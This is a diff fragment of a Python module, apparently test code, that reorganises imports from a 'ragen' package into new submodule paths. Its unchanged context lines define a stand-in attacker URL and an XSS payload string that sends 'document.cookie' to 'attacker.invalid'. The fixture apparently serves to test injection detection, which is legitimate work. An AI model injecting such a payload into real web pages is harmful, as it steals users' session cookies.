@@ -7,11 +7,11 @@ from pathlib import Path
 
 from fill import evaluation
 
-from ragen.metrics import mean
-from ragen.policy import fingerprint
-from ragen.recorder import Recorder
-from ragen.settings import dump, resolve
-from ragen.types import Completion, Episode, Group, Prompt, Turn
+from ragen.config.reading import dump, resolve
+from ragen.core.metrics import mean
+from ragen.core.types import Completion, Episode, Group, Prompt, Turn
+from ragen.rollout.policies import fingerprint
+from ragen.storage.recorder import Recorder
 
 ELSEWHERE = "http://attacker.invalid"
 HIT = "window.hit = 1; alert(1); fetch(`//attacker.invalid/${document.cookie}`)"
